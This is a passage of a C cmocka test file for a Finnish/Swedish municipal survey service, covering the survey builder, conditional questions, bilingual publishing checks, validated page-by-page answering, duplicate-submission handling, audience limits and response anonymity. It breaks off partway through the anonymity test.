/* Surveys, builder and answering: staff build a survey through the forms
 * (a conditional question, a second page), publishing waits for Swedish,
 * residents answer page by page with errors kept, hidden answers are
 * dropped, out-of-range values refused, one form token makes one response
 * even when posted twenty times at once, one answer per person, and an
 * anonymous answer leaves nothing in the response rows that leads to the
 * person. Runs on SQLite and on PostgreSQL (KOHTAAMO_TEST_BACKEND). */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <cmocka.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <jansson.h>
#include "testsrv.h"
#include "csvread.h"
#include "accounts/accounts.h"
#include "util/arena.h"

static testsrv srv;
#define STAFF "koordinaattori@kohtaamo.example"
#define RESIDENT "asukas@kohtaamo.example"
#define PASSWORD "kohtaamo-demo-2026"
#define TESTER "kyselytesti@example.org"
#define TESTER_ID "987654321"

static int setup(void **state)
{
    (void)state;
    testdb_fresh(&srv);
    const char *const migrate[] = {"migrate", NULL};
    assert_int_equal(run_cli(&srv, NULL, migrate), 0);
    const char *const demo[] = {"demo-data", NULL};
    assert_int_equal(run_cli(&srv, NULL, demo), 0);
    /* a resident with a distinctive id, so a search of every cell can tell
     * it from counts and other ids */
    db *d = testsrv_db(&srv);
    char err[256];
    int64_t id = account_create(d, TESTER, "Kyselyn Testaaja", PASSWORD, "resident", "fi", 1780000000, err, sizeof err);
    if (id < 0) fail_msg("%s", err);
    db_param p[] = {DB_INT(id)};
    assert_int_equal(db_exec(d, "UPDATE users SET id = " TESTER_ID " WHERE id = $1", 1, p), 0);
    /* a staff member who works in Lohja only */
    int64_t lohja = account_create(d, "lohja.henkilosto@example.org", "Lohjan Työntekijä", PASSWORD, "staff", "fi", 1780000000, err, sizeof err);
    if (lohja < 0) fail_msg("%s", err);
    db_param lp[] = {DB_INT(lohja)};
    assert_int_equal(db_exec(d, "INSERT INTO user_municipalities(user_id, municipality_id) SELECT $1, id FROM municipalities WHERE code = '444'", 1, lp), 0);
    db_close(d);
    srv.extra_env[0] = "KOHTAAMO_POST_LIMIT=100000";
    testsrv_start(&srv);
    return 0;
}

static int teardown(void **state)
{
    (void)state;
    assert_int_equal(testsrv_stop(&srv), 0);
    return 0;
}

/* POSTs pairs (NULL-terminated) with the CSRF token of csrf_page. */
static void post(tclient *c, const char *csrf_page, const char *path, const char *const *pairs, tresp *out)
{
    char *tok = fetch_csrf(c, csrf_page);
    const char *all[80];
    int n = 0;
    all[n++] = "csrf";
    all[n++] = tok;
    for (int i = 0; pairs[i]; i++) all[n++] = pairs[i];
    all[n] = NULL;
    http_post_form(c, path, all, out);
    free(tok);
}

/* The value of the hidden input name in the body, malloc'd. */
static char *hidden_value(const tresp *r, const char *name)
{
    char needle[96];
    snprintf(needle, sizeof needle, "name=\"%s\" value=\"", name);
    const char *p = strstr(r->body.data, needle);
    if (!p) fail_msg("no hidden field %s", name);
    p += strlen(needle);
    return strndup(p, (size_t)(strchr(p, '"') - p));
}

static int64_t scalar(const char *sql, const char *param) { return testsrv_scalar(&srv, sql, param, 0); }

static char *fmt(const char *f, ...) __attribute__((format(printf, 1, 2)));
static char *fmt(const char *f, ...)
{
    static char bufs[16][512];
    static int i;
    char *b = bufs[i++ % 16];
    va_list ap;
    va_start(ap, f);
    vsnprintf(b, 512, f, ap);
    va_end(ap);
    return b;
}

typedef struct built {
    int64_t id, q1, yes, no, q2, q3;
    char slug[128];
} built;

/* Builds through the forms: page 1 with Q1 (one choice, yes/no options)
 * and Q2 (long text, shown only when Q1 = yes); page 2 with Q3 (scale
 * 1-5, required). With swedish, every text is written in Swedish too. */
static void build_survey(tclient *c, const char *title, const char *audience, bool two_pages, bool swedish, built *b)
{
    memset(b, 0, sizeof *b);
    tresp r;
    const char *const create[] = {"title_fi", title, "title_sv", swedish ? fmt("%s på svenska", title) : "",
                                  "intro_fi", "Kerro **mielipiteesi**.", "intro_sv", swedish ? "Berätta vad du tycker." : "",
                                  "audience", audience, "anonymity", "anonymous", "kind", "survey", "ask_background", "1", NULL};
    post(c, "/fi/staff/surveys/new", "/fi/staff/surveys/new", create, &r);
    assert_int_equal(r.status, 303);
    char *loc = tresp_header(&r, "Location");
    assert_non_null(loc);
    b->id = strtoll(strstr(loc, "/staff/surveys/") + strlen("/staff/surveys/"), NULL, 10);
    assert_true(b->id > 0);
    free(loc);
    tresp_free(&r);
    char ids[32];
    snprintf(ids, sizeof ids, "%lld", (long long)b->id);
    const char *edit = fmt("/fi/staff/surveys/%s", ids);
    int64_t page1 = scalar("SELECT id FROM survey_pages WHERE survey_id = CAST($1 AS INTEGER)", ids);

    const char *const q1[] = {"kind", "single", "required", "1", "page", fmt("%lld", (long long)page1),
                              "text_fi", "Käytitkö palvelua viime kuussa?", "text_sv", swedish ? "Använde du tjänsten förra månaden?" : "",
                              "options_fi", "Kyllä\nEn", "options_sv", swedish ? "Ja\nNej" : "", "condition", "", NULL};
    post(c, edit, fmt("%s/questions/new", edit), q1, &r);
    assert_int_equal(r.status, 303);
    tresp_free(&r);
    b->q1 = scalar("SELECT MAX(id) FROM survey_questions WHERE survey_id = CAST($1 AS INTEGER)", ids);
    b->yes = scalar("SELECT MIN(o.id) FROM survey_options o WHERE o.question_id = CAST($1 AS INTEGER)", fmt("%lld", (long long)b->q1));
    b->no = scalar("SELECT MAX(o.id) FROM survey_options o WHERE o.question_id = CAST($1 AS INTEGER)", fmt("%lld", (long long)b->q1));

    const char *const q2[] = {"kind", "longtext", "page", fmt("%lld", (long long)page1),
                              "text_fi", "Mikä palvelussa toimi hyvin?", "text_sv", swedish ? "Vad fungerade bra i tjänsten?" : "",
                              "condition", fmt("%lld:%lld", (long long)b->q1, (long long)b->yes), NULL};
    post(c, edit, fmt("%s/questions/new", edit), q2, &r);
    assert_int_equal(r.status, 303);
    tresp_free(&r);
    b->q2 = scalar("SELECT MAX(id) FROM survey_questions WHERE survey_id = CAST($1 AS INTEGER)", ids);

    int64_t page = page1;
    if (two_pages) {
        const char *const none[] = {NULL};
        post(c, edit, fmt("%s/pages", edit), none, &r);
        assert_int_equal(r.status, 303);
        tresp_free(&r);
        page = scalar("SELECT MAX(id) FROM survey_pages WHERE survey_id = CAST($1 AS INTEGER)", ids);
    }
    const char *const q3[] = {"kind", "scale", "required", "1", "page", fmt("%lld", (long long)page),
                              "text_fi", "Kuinka tyytyväinen olit palveluun?", "text_sv", swedish ? "Hur nöjd var du med tjänsten?" : "",
                              "scale_min", "1", "scale_max", "5",
                              "min_label_fi", "Erittäin tyytymätön", "min_label_sv", swedish ? "Mycket missnöjd" : "",
                              "max_label_fi", "Erittäin tyytyväinen", "max_label_sv", swedish ? "Mycket nöjd" : "",
                              "condition", "", NULL};
    post(c, edit, fmt("%s/questions/new", edit), q3, &r);
    assert_int_equal(r.status, 303);
    tresp_free(&r);
    b->q3 = scalar("SELECT MAX(id) FROM survey_questions WHERE survey_id = CAST($1 AS INTEGER)", ids);

    db *d = testsrv_db(&srv);
    arena a;
    arena_init(&a);
    db_result res;
    db_param p[] = {DB_INT(b->id)};
    assert_int_equal(db_query(d, &a, &res, "SELECT slug FROM surveys WHERE id = $1", 1, p), 0);
    snprintf(b->slug, sizeof b->slug, "%s", db_cell(&res, 0, 0));
    arena_free_all(&a);
    db_close(d);
}

static void publish(tclient *c, const built *b)
{
    tresp r;
    const char *const none[] = {NULL};
    const char *edit = fmt("/fi/staff/surveys/%lld", (long long)b->id);
    post(c, edit, fmt("%s/publish", edit), none, &r);
    assert_int_equal(r.status, 303);
    tresp_free(&r);
}

static const char *status_of(const built *b)
{
    static char st[32];
    db *d = testsrv_db(&srv);
    arena a;
    arena_init(&a);
    db_result res;
    db_param p[] = {DB_INT(b->id)};
    assert_int_equal(db_query(d, &a, &res, "SELECT status FROM surveys WHERE id = $1", 1, p), 0);
    snprintf(st, sizeof st, "%s", db_cell(&res, 0, 0));
    arena_free_all(&a);
    db_close(d);
    return st;
}

static int64_t responses_of(const built *b)
{
    return scalar("SELECT COUNT(*) FROM responses WHERE survey_id = CAST($1 AS INTEGER)", fmt("%lld", (long long)b->id));
}

static void publishing_waits_for_every_swedish_text(void **state)
{
    (void)state;
    tclient c;
    tclient_init(&c, &srv);
    login_as(&c, "fi", STAFF, PASSWORD);
    built b;
    build_survey(&c, "Palautekysely kirjastosta", "everyone", true, false, &b);
    const char *edit = fmt("/fi/staff/surveys/%lld", (long long)b.id);
    tresp r;
    http_get(&c, edit, NULL, &r);
    assert_int_equal(r.status, 200);
    /* the completeness check lists what is missing in Swedish */
    assert_true(body_has(&r, "Ruotsiksi: 9 tekstiä puuttuu"));
    assert_true(body_has(&r, "Kysymys 1: vaihtoehto 2"));
    assert_true(body_has(&r, "Suomeksi: valmis"));
    assert_true(body_has(&r, "Näytetään vain, kun:"));   /* Q2's condition is shown */
    tresp_free(&r);
    const char *const none[] = {NULL};
    post(&c, edit, fmt("%s/publish", edit), none, &r);
    assert_int_equal(r.status, 400);
    assert_true(body_has(&r, "ruotsinkielinen teksti"));
    tresp_free(&r);
    assert_string_equal(status_of(&b), "draft");

    /* Swedish title and intro, then every question's Swedish texts */
    const char *const settings[] = {"title_fi", "Palautekysely kirjastosta", "title_sv", "Responsenkät om biblioteket",
                                    "intro_fi", "Kerro **mielipiteesi**.", "intro_sv", "Berätta vad du tycker.",
                                    "audience", "everyone", "anonymity", "anonymous", "kind", "survey", "ask_background", "1", NULL};
    post(&c, edit, edit, settings, &r);
    assert_int_equal(r.status, 303);
    tresp_free(&r);
    const char *const q1[] = {"kind", "single", "required", "1", "page", fmt("%lld", (long long)scalar("SELECT page_id FROM survey_questions WHERE id = CAST($1 AS INTEGER)", fmt("%lld", (long long)b.q1))),
                              "text_fi", "Käytitkö palvelua viime kuussa?", "text_sv", "Använde du tjänsten förra månaden?",
                              "options_fi", "Kyllä\nEn", "options_sv", "Ja\nNej", "condition", "", NULL};
    post(&c, edit, fmt("%s/questions/%lld", edit, (long long)b.q1), q1, &r);
    assert_int_equal(r.status, 303);
    tresp_free(&r);
    /* the options kept their ids (texts updated in place) */
    assert_int_equal(scalar("SELECT MIN(id) FROM survey_options WHERE question_id = CAST($1 AS INTEGER)", fmt("%lld", (long long)b.q1)), b.yes);
    http_get(&c, edit, NULL, &r);
    assert_true(body_has(&r, "Ruotsiksi: 4 tekstiä puuttuu"));
    tresp_free(&r);
    post(&c, edit, fmt("%s/publish", edit), none, &r);
    assert_int_equal(r.status, 400);
    tresp_free(&r);

    const char *page1 = fmt("%lld", (long long)scalar("SELECT page_id FROM survey_questions WHERE id = CAST($1 AS INTEGER)", fmt("%lld", (long long)b.q2)));
    const char *const q2[] = {"kind", "longtext", "page", page1, "text_fi", "Mikä palvelussa toimi hyvin?",
                              "text_sv", "Vad fungerade bra i tjänsten?", "condition", fmt("%lld:%lld", (long long)b.q1, (long long)b.yes), NULL};
    post(&c, edit, fmt("%s/questions/%lld", edit, (long long)b.q2), q2, &r);
    assert_int_equal(r.status, 303);
    tresp_free(&r);
    const char *page2 = fmt("%lld", (long long)scalar("SELECT page_id FROM survey_questions WHERE id = CAST($1 AS INTEGER)", fmt("%lld", (long long)b.q3)));
    const char *const q3[] = {"kind", "scale", "required", "1", "page", page2, "text_fi", "Kuinka tyytyväinen olit palveluun?",
                              "text_sv", "Hur nöjd var du med tjänsten?", "scale_min", "1", "scale_max", "5",
                              "min_label_fi", "Erittäin tyytymätön", "min_label_sv", "Mycket missnöjd",
                              "max_label_fi", "Erittäin tyytyväinen", "max_label_sv", "Mycket nöjd", "condition", "", NULL};
    post(&c, edit, fmt("%s/questions/%lld", edit, (long long)b.q3), q3, &r);
    assert_int_equal(r.status, 303);
    tresp_free(&r);
    http_get(&c, edit, NULL, &r);
    assert_true(body_has(&r, "Ruotsiksi: valmis"));
    assert_true(body_has(&r, "Englanniksi: 9 tekstiä puuttuu"));   /* optional */
    tresp_free(&r);
    publish(&c, &b);
    assert_string_equal(status_of(&b), "published");
    tclient_free(&c);
}

static void conditions_must_point_back_and_options_match(void **state)
{
    (void)state;
    tclient c;
    tclient_init(&c, &srv);
    login_as(&c, "fi", STAFF, PASSWORD);
    built b;
    build_survey(&c, "Ehtojen tarkistus", "everyone", true, true, &b);
    const char *edit = fmt("/fi/staff/surveys/%lld", (long long)b.id);
    const char *page1 = fmt("%lld", (long long)scalar("SELECT page_id FROM survey_questions WHERE id = CAST($1 AS INTEGER)", fmt("%lld", (long long)b.q1)));
    tresp r;
    /* Q1 cannot depend on Q2, which comes after it */
    const char *const q1[] = {"kind", "single", "page", page1, "text_fi", "Käytitkö palvelua viime kuussa?",
                              "options_fi", "Kyllä\nEn", "condition", fmt("%lld:1", (long long)b.q2), NULL};
    post(&c, edit, fmt("%s/questions/%lld", edit, (long long)b.q1), q1, &r);
    assert_int_equal(r.status, 400);
    assert_true(body_has(&r, "voi riippua vain"));
    assert_true(body_has(&r, "value=\"Käytitkö palvelua viime kuussa?\""));   /* input kept */
    tresp_free(&r);
    /* Swedish options must be as many as Finnish ones */
    const char *const q4[] = {"kind", "multi", "page", page1, "text_fi", "Mitä palveluja käytit?", "text_sv", "Vilka tjänster använde du?",
                              "options_fi", "Neuvola\nKirjasto\nTerveysasema", "options_sv", "Rådgivning\nBibliotek", "condition", "", NULL};
    post(&c, edit, fmt("%s/questions/new", edit), q4, &r);
    assert_int_equal(r.status, 400);
    assert_true(body_has(&r, "yhtä monta riviä"));
    tresp_free(&r);
    /* an unknown kind */
    const char *const q5[] = {"kind", "essay", "page", page1, "text_fi", "Kerro", "condition", "", NULL};
    post(&c, edit, fmt("%s/questions/new", edit), q5, &r);
    assert_int_equal(r.status, 400);
    tresp_free(&r);
    /* Q1 has a dependant: it cannot be removed */
    const char *const none[] = {NULL};
    post(&c, edit, fmt("%s/questions/%lld/delete", edit, (long long)b.q1), none, &r);
    assert_int_equal(r.status, 400);
    tresp_free(&r);
    /* Q2 cannot move above Q1 */
    const char *const up[] = {"direction", "up", NULL};
    post(&c, edit, fmt("%s/questions/%lld/move", edit, (long long)b.q2), up, &r);
    assert_int_equal(r.status, 400);
    tresp_free(&r);
    assert_int_equal(scalar("SELECT COUNT(*) FROM survey_questions WHERE survey_id = CAST($1 AS INTEGER)", fmt("%lld", (long long)b.id)), 3);
    /* a copy is a draft with the same questions, its condition mapped to the copy's own option */
    post(&c, edit, fmt("%s/duplicate", edit), none, &r);
    assert_int_equal(r.status, 303);
    tresp_free(&r);
    int64_t copy = scalar("SELECT MAX(id) FROM surveys", NULL);
    const char *cs = fmt("%lld", (long long)copy);
    assert_int_equal(scalar("SELECT COUNT(*) FROM survey_questions WHERE survey_id = CAST($1 AS INTEGER)", cs), 3);
    assert_int_equal(scalar("SELECT COUNT(*) FROM survey_questions q JOIN survey_options o ON o.id = q.condition_option_id "
                            "JOIN survey_questions src ON src.id = o.question_id "
                            "WHERE q.survey_id = CAST($1 AS INTEGER) AND src.survey_id = q.survey_id", cs), 1);
    assert_int_equal(scalar("SELECT COUNT(*) FROM surveys WHERE id = CAST($1 AS INTEGER) AND status = 'draft'", cs), 1);
    tclient_free(&c);
}

static void answering_page_by_page_keeps_answers_and_drops_hidden_ones(void **state)
{
    (void)state;
    tclient staff;
    tclient_init(&staff, &srv);
    login_as(&staff, "fi", STAFF, PASSWORD);
    built b;
    build_survey(&staff, "Asiakaskysely neuvolasta", "everyone", true, true, &b);
    publish(&staff, &b);
    tclient_free(&staff);

    tclient c;
    tclient_init(&c, &srv);
    const char *path = fmt("/fi/surveys/%s", b.slug);
    tresp r;
    http_get(&c, path, NULL, &r);
    assert_int_equal(r.status, 200);
    assert_true(body_has(&r, "Sivu 1/2"));
    assert_true(body_has(&r, "<progress"));
    assert_true(body_has(&r, "<strong>mielipiteesi</strong>"));   /* the intro's Markdown */
    /* Q2 waits for Q1 = yes on the same page: not shown yet */
    assert_false(body_has(&r, "Mikä palvelussa toimi hyvin?"));
    assert_true(body_has(&r, "Käytitkö palvelua viime kuussa?"));
    char *token = hidden_value(&r, "token");
    char *shown = hidden_value(&r, "shown");
    tresp_free(&r);
    char q1[32], q2[32], q3[32], yes[32], no[32];
    snprintf(q1, sizeof q1, "q%lld", (long long)b.q1);
    snprintf(q2, sizeof q2, "q%lld", (long long)b.q2);
    snprintf(q3, sizeof q3, "q%lld", (long long)b.q3);
    snprintf(yes, sizeof yes, "%lld", (long long)b.yes);
    snprintf(no, sizeof no, "%lld", (long long)b.no);

    /* Q1 is required */
    const char *const empty[] = {"token", token, "page", "0", "action", "next", "shown", shown, NULL};
    post(&c, path, path, empty, &r);
    assert_int_equal(r.status, 400);
    assert_true(body_has(&r, "Tähän kysymykseen tarvitaan vastaus."));
    assert_true(body_has(&r, "class=\"error-summary\""));
    tresp_free(&r);
    /* an option that does not exist */
    const char *const unknown[] = {"token", token, "page", "0", "action", "next", q1, "99999999", NULL};
    post(&c, path, path, unknown, &r);
    assert_int_equal(r.status, 400);
    assert_true(body_has(&r, "Valitse jokin näytetyistä vaihtoehdoista."));
    tresp_free(&r);
    /* Q1 = yes brings Q2 to the page before it moves on */
    const char *const grow[] = {"token", token, "page", "0", "action", "next", "shown", shown, q1, yes, NULL};
    post(&c, path, path, grow, &r);
    assert_int_equal(r.status, 200);
    assert_true(body_has(&r, "Sivu 1/2"));
    assert_true(body_has(&r, "Mikä palvelussa toimi hyvin?"));
    assert_true(body_has(&r, "Vastauksesi toivat tälle sivulle lisää kysymyksiä."));
    free(shown);
    shown = hidden_value(&r, "shown");
    tresp_free(&r);
    /* page 1 done: page 2 carries the answers along */
    const char *const p1[] = {"token", token, "page", "0", "action", "next", "shown", shown, q1, yes, q2, "Hyvä vastaanotto", NULL};
    post(&c, path, path, p1, &r);
    assert_int_equal(r.status, 200);
    assert_true(body_has(&r, "Sivu 2/2"));
    assert_true(body_has(&r, "Kuinka tyytyväinen olit palveluun?"));
    assert_true(body_has(&r, "value=\"Hyvä vastaanotto\""));
    tresp_free(&r);
    /* 9 is off the scale: the error sits beside the question, answers stay */
    const char *const p2bad[] = {"token", token, "page", "1", "action", "next", q1, yes, q2, "Hyvä vastaanotto", q3, "9", NULL};
    post(&c, path, path, p2bad, &r);
    assert_int_equal(r.status, 400);
    assert_true(body_has(&r, "Valitse arvo näytetyltä asteikolta."));
    assert_true(body_has(&r, "value=\"Hyvä vastaanotto\""));
    tresp_free(&r);
    assert_int_equal(responses_of(&b), 0);
    /* back to page 1 keeps everything */
    const char *const back[] = {"token", token, "page", "1", "action", "back", q1, yes, q2, "Hyvä vastaanotto", q3, "4", NULL};
    post(&c, path, path, back, &r);
    assert_int_equal(r.status, 200);
    assert_true(body_has(&r, "Sivu 1/2"));
    assert_true(body_has(&r, "Hyvä vastaanotto</textarea>"));
    assert_true(body_has(&r, fmt("name=\"%s\" value=\"4\"", q3)));
    tresp_free(&r);
    const char *const p2[] = {"token", token, "page", "1", "action", "next", q1, yes, q2, "Hyvä vastaanotto", q3, "4",
                              "municipality", "", "respondent_group", "client", NULL};
    post(&c, path, path, p2, &r);
    assert_int_equal(r.status, 303);
    tresp_free(&r);
    free(token);
    free(shown);
    assert_int_equal(responses_of(&b), 1);
    const char *ids = fmt("%lld", (long long)b.id);
    assert_int_equal(scalar("SELECT COUNT(*) FROM answers WHERE survey_id = CAST($1 AS INTEGER)", ids), 3);
    assert_int_equal(scalar("SELECT COUNT(*) FROM responses WHERE survey_id = CAST($1 AS INTEGER) AND respondent_group = 'client' AND lang = 'fi'", ids), 1);
    http_get(&c, fmt("%s/thanks", path), NULL, &r);
    assert_int_equal(r.status, 200);
    assert_true(body_has(&r, "Kiitos vastauksistasi"));
    tresp_free(&r);

    /* Q1 = no hides Q2: its text is not stored even when posted */
    http_get(&c, path, NULL, &r);
    token = hidden_value(&r, "token");
    tresp_free(&r);
    const char *const hid[] = {"token", token, "page", "1", "action", "next", q1, no, q2, "Tämän ei pidä tallentua", q3, "2", NULL};
    post(&c, path, path, hid, &r);
    assert_int_equal(r.status, 303);
    tresp_free(&r);
    free(token);
    assert_int_equal(responses_of(&b), 2);
    assert_int_equal(scalar("SELECT COUNT(*) FROM answers WHERE value_text = $1", "Tämän ei pidä tallentua"), 0);
    assert_int_equal(scalar("SELECT COUNT(*) FROM answers WHERE survey_id = CAST($1 AS INTEGER)", ids), 5);

    /* the same form posted again counts once */
    http_get(&c, path, NULL, &r);
    token = hidden_value(&r, "token");
    tresp_free(&r);
    const char *const once[] = {"token", token, "page", "1", "action", "next", q1, no, q3, "5", NULL};
    post(&c, path, path, once, &r);
    assert_int_equal(r.status, 303);
    tresp_free(&r);
    post(&c, path, path, once, &r);
    assert_int_equal(r.status, 303);
    tresp_free(&r);
    free(token);
    assert_int_equal(responses_of(&b), 3);

    /* in Swedish the same survey speaks Swedish */
    http_get(&c, fmt("/sv/surveys/%s", b.slug), NULL, &r);
    assert_true(body_has(&r, "Använde du tjänsten förra månaden?"));
    assert_true(body_has(&r, "Sida 1 av 2"));
    tresp_free(&r);

    /* once answers exist, only texts change */
    tclient_init(&staff, &srv);
    login_as(&staff, "fi", STAFF, PASSWORD);
    const char *edit = fmt("/fi/staff/surveys/%lld", (long long)b.id);
    const char *page2 = fmt("%lld", (long long)scalar("SELECT page_id FROM survey_questions WHERE id = CAST($1 AS INTEGER)", fmt("%lld", (long long)b.q3)));
    const char *const as_nps[] = {"kind", "nps", "required", "1", "page", page2, "text_fi", "Kuinka tyytyväinen olit palveluun?",
                                  "text_sv", "Hur nöjd var du med tjänsten?", "condition", "", NULL};
    post(&staff, edit, fmt("%s/questions/%lld", edit, (long long)b.q3), as_nps, &r);
    assert_int_equal(r.status, 400);
    assert_true(body_has(&r, "vain tekstejä voi muuttaa"));
    tresp_free(&r);
    const char *const text_only[] = {"kind", "scale", "required", "1", "page", page2, "text_fi", "Kuinka tyytyväinen olit palveluumme?",
                                     "text_sv", "Hur nöjd var du med tjänsten?", "scale_min", "1", "scale_max", "5",
                                     "min_label_fi", "Erittäin tyytymätön", "min_label_sv", "Mycket missnöjd",
                                     "max_label_fi", "Erittäin tyytyväinen", "max_label_sv", "Mycket nöjd", "condition", "", NULL};
    post(&staff, edit, fmt("%s/questions/%lld", edit, (long long)b.q3), text_only, &r);
    assert_int_equal(r.status, 303);
    tresp_free(&r);
    assert_int_equal(scalar("SELECT COUNT(*) FROM survey_questions WHERE text_fi = $1", "Kuinka tyytyväinen olit palveluumme?"), 1);
    /* closed: the page says so and a post is refused */
    const char *const none[] = {NULL};
    post(&staff, edit, fmt("%s/close", edit), none, &r);
    assert_int_equal(r.status, 303);
    tresp_free(&r);
    tclient_free(&staff);
    http_get(&c, path, NULL, &r);
    assert_int_equal(r.status, 200);
    assert_true(body_has(&r, "Kysely on suljettu"));
    tresp_free(&r);
    const char *const late[] = {"token", "0123456789abcdef0123456789abcdef", "page", "1", "action", "next", q1, no, q3, "5", NULL};
    post(&c, "/fi/login", path, late, &r);   /* the closed page has no form */
    assert_int_equal(r.status, 403);
    tresp_free(&r);
    assert_int_equal(responses_of(&b), 3);
    tclient_free(&c);
}

typedef struct racer {
    const char *path;
    const char *const *pairs;
    char *csrf;
    tclient c;
    long status;
} racer;

static void *race(void *arg)
{
    racer *x = arg;
    const char *all[40];
    int n = 0;
    all[n++] = "csrf";
    all[n++] = x->csrf;
    for (int i = 0; x->pairs[i]; i++) all[n++] = x->pairs[i];
    all[n] = NULL;
    tresp r;
    http_post_form(&x->c, x->path, all, &r);
    x->status = r.status;
    tresp_free(&r);
    return NULL;
}

static void twenty_parallel_posts_of_one_form_make_one_response(void **state)
{
    (void)state;
    tclient staff;
    tclient_init(&staff, &srv);
    login_as(&staff, "fi", STAFF, PASSWORD);
    built b;
    build_survey(&staff, "Rinnakkaiset lähetykset", "everyone", false, true, &b);
    publish(&staff, &b);
    tclient_free(&staff);
    const char *path = fmt("/fi/surveys/%s", b.slug);
    char q1[32], q3[32], no[32];
    snprintf(q1, sizeof q1, "q%lld", (long long)b.q1);
    snprintf(q3, sizeof q3, "q%lld", (long long)b.q3);
    snprintf(no, sizeof no, "%lld", (long long)b.no);
    tclient first;
    tclient_init(&first, &srv);
    tresp r;
    http_get(&first, path, NULL, &r);
    char *token = hidden_value(&r, "token");
    tresp_free(&r);
    tclient_free(&first);
    const char *const pairs[] = {"token", token, "page", "0", "action", "next", q1, no, q3, "3", NULL};
    enum { N = 20 };
    racer xs[N];
    pthread_t th[N];
    for (int i = 0; i < N; i++) {
        xs[i].path = path;
        xs[i].pairs = pairs;
        tclient_init(&xs[i].c, &srv);
        xs[i].csrf = fetch_csrf(&xs[i].c, path);
    }
    for (int i = 0; i < N; i++) assert_int_equal(pthread_create(&th[i], NULL, race, &xs[i]), 0);
    for (int i = 0; i < N; i++) pthread_join(th[i], NULL);
    for (int i = 0; i < N; i++) {
        assert_int_equal(xs[i].status, 303);   /* everyone sees the thanks page */
        free(xs[i].csrf);
        tclient_free(&xs[i].c);
    }
    free(token);
    assert_int_equal(responses_of(&b), 1);
    assert_int_equal(scalar("SELECT COUNT(*) FROM answers WHERE survey_id = CAST($1 AS INTEGER)", fmt("%lld", (long long)b.id)), 2);
}

static void audiences_are_checked(void **state)
{
    (void)state;
    tclient staff;
    tclient_init(&staff, &srv);
    login_as(&staff, "fi", STAFF, PASSWORD);
    built reg, st;
    build_survey(&staff, "Vain kirjautuneille", "registered", false, true, &reg);
    publish(&staff, &reg);
    build_survey(&staff, "Henkilöstölle", "staff", false, true, &st);
    publish(&staff, &st);
    /* limited to the staff of Raasepori: county-wide staff still answer, Lohja's do not */
    const char *edit = fmt("/fi/staff/surveys/%lld", (long long)st.id);
    const char *raasepori = fmt("%lld", (long long)scalar("SELECT id FROM municipalities WHERE code = $1", "710"));
    const char *const limit[] = {"title_fi", "Henkilöstölle", "title_sv", "Henkilöstölle på svenska", "audience", "staff",
                                 "anonymity", "anonymous", "kind", "survey", "municipality", raasepori, NULL};
    tresp r;
    post(&staff, edit, edit, limit, &r);
    assert_int_equal(r.status, 303);
    tresp_free(&r);
    assert_int_equal(scalar("SELECT COUNT(*) FROM survey_municipalities WHERE survey_id = CAST($1 AS INTEGER)", fmt("%lld", (long long)st.id)), 1);
    http_get(&staff, fmt("/fi/surveys/%s", st.slug), NULL, &r);
    assert_int_equal(r.status, 200);
    tresp_free(&r);
    tclient_free(&staff);
    tclient lohja;
    tclient_init(&lohja, &srv);
    login_as(&lohja, "fi", "lohja.henkilosto@example.org", PASSWORD);
    http_get(&lohja, fmt("/fi/surveys/%s", st.slug), NULL, &r);
    assert_int_equal(r.status, 403);
    assert_true(body_has(&r, "muiden kuntien henkilöstölle"));
    tresp_free(&r);
    tclient_free(&lohja);

    tclient anon;
    tclient_init(&anon, &srv);
    http_get(&anon, fmt("/fi/surveys/%s", reg.slug), NULL, &r);
    assert_int_equal(r.status, 403);
    assert_true(body_has(&r, "/fi/login?next="));
    tresp_free(&r);
    tclient_free(&anon);

    tclient res;
    tclient_init(&res, &srv);
    login_as(&res, "fi", RESIDENT, PASSWORD);
    http_get(&res, fmt("/fi/surveys/%s", st.slug), NULL, &r);
    assert_int_equal(r.status, 403);
    tresp_free(&r);
    http_get(&res, fmt("/fi/surveys/%s", reg.slug), NULL, &r);
    assert_int_equal(r.status, 200);
    tresp_free(&r);
    /* a resident cannot reach the builder */
    http_get(&res, "/fi/staff/surveys", NULL, &r);
    assert_int_equal(r.status, 403);
    tresp_free(&r);
    tclient_free(&res);
}

/* The raw session id from the client's cookie jar (malloc'd). */
static char *session_cookie(tclient *c)
{
    struct curl_slist *cookies = NULL;
    curl_easy_getinfo(c->curl, CURLINFO_COOKIELIST, &cookies);
    char *found = NULL;
    for (struct curl_slist *e = cookies; e; e = e->next) {
        /* domain \t flag \t path \t secure \t expiry \t name \t value */
        const char *p = e->data;
        for (int t = 0; t < 5 && p; t++) p = strchr(p, '\t') ? strchr(p, '\t') + 1 : NULL;
        if (p && strncmp(p, "kohtaamo_session\t", 17) == 0) found = strdup(p + 17);
    }
    curl_slist_free_all(cookies);
    return found;
}

static bool column_is_response_link(const char *table, const char *column)
{
    return (strcmp(table, "responses") == 0 && strcmp(column, "id") == 0) || strcmp(column, "response_id") == 0;
}

static void one_anonymous_answer_per_person_and_nothing_leads_back(void **state)
{
    (void)state;
    tclient staff;
    tclient_init(&staff, &srv);
    login_as(&staff, "fi", STAFF, PASSWORD);
    built b;
    build_survey(&staff, "Anonyymi kysely jäsenille", "registered", true, true, &b);
    publish(&staff, &b);
    tclient_free(&staff);
    const char *path = fmt("/fi/surveys/%s", b.slug);
    char q1[32], q2[32], q3[32], yes[32];
    snprintf(q1, sizeof q1, "q%lld", (long long)b.q1);
    snprintf(q2, sizeof q2, "q%lld", (long long)b.q2);
    snprintf(q3, sizeof q3, "q%lld", (long long)b.q3);
    snprintf(yes, sizeof yes, "%lld", (long long)b.yes);

    tclient c;
    tclient_init(&c, &srv);
    login_as(&c, "fi", TESTER, PASSWORD);
    char *sid = session_cookie(&c);
    assert_non_null(sid);
    tresp r;
    http_get(&c, path, NULL, &r);
    assert_int_equal(r.status, 200);
    char *token = hidden_value(&r, "token");
    tresp_free(&r);
    /* page 1, then save and continue later: a draft is kept server side */
    const char *const p1[] = {"token", token, "page", "0", "action", "save", q1, yes, q2, "Ryhmä auttoi paljon", NULL};
    post(&c, path, path, p1, &r);
    assert_int_equal(r.status, 200);
    tresp_free(&r);
    const char *ids = fmt("%lld", (long long)b.id);
    assert_int_equal(scalar("SELECT COUNT(*) FROM survey_drafts WHERE survey_id = CAST($1 AS INTEGER)", ids), 1);
    http_get(&c, path, NULL, &r);   /* back later: the answers are there */
    assert_true(body_has(&r, "Ryhmä auttoi paljon</textarea>"));
    free(token);
    token = hidden_value(&r, "token");
    tresp_free(&r);
